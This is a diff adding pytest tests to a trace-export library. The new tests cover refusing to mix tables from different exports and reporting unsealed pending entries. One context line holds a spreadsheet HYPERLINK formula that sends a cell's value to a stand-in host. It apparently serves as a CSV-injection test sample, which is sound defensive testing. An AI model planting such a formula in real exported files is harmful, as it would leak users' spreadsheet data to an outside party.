@@ -24,6 +24,7 @@ from fgtrac.store import durable
 from fgtrac.tlog.note import verify_note
 from hostile_trace import MARKED, TEXTS, make_hostile_trace
 from lives import live
+from model_traces import leave_pending, trace_with_models
 from traces import DATASET
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
@@ -241,3 +242,29 @@ def test_a_full_disk_leaves_no_half_file_and_no_manifest(path: Path, tmp_path: P
         export_tables(path, tmp_path / "out", "parquet", replace=True)
     assert (tmp_path / "out" / "uses.parquet").read_bytes() == whole
     assert not [p.name for p in (tmp_path / "out").iterdir() if p.name.endswith(".tmp") or p.name == MANIFEST]
+
+
+@pytest.mark.parametrize("left", ["names.csv", "uses.parquet"])
+def test_a_table_of_another_export_does_not_stay_beside_a_new_manifest(path: Path, tmp_path: Path, left: str) -> None:
+    export_tables(path, tmp_path / "out", "csv", tables=["samples"])
+    (tmp_path / "out" / left).write_text("of another export")
+    before = {file.name: file.read_bytes() for file in (tmp_path / "out").iterdir()}
+    with pytest.raises(FileExistsError, match=f"has {left} of another export, .*remove them, or name another folder"):
+        export_tables(path, tmp_path / "out", "csv", tables=["samples"], replace=True)
+    assert {file.name: file.read_bytes() for file in (tmp_path / "out").iterdir()} == before
+    with pytest.raises(ValueError, match="lies in the trace"):
+        export_tables(path, path / "out", "csv", replace=True)
+
+
+def test_later_entries_are_named(tmp_path: Path) -> None:
+    made = trace_with_models(tmp_path)
+    export_tables(made.trace.path, tmp_path / "before", "csv", tables=["metrics"])
+    leave_pending(made)
+    export_tables(made.trace.path, tmp_path / "out", "csv", tables=["metrics"])
+    words = "1 later entry is in no full seal yet"
+    assert words not in (tmp_path / "before" / "README.md").read_text()
+    assert words in (tmp_path / "out" / "README.md").read_text()
+    assert json.loads((tmp_path / "out" / MANIFEST).read_bytes())["pending"] == 1
+    trace = fgtrac.open(made.trace.path)
+    for shown in (trace.samples(), trace.sql("SELECT 1 AS a")):
+        assert words in shown._repr_html_()
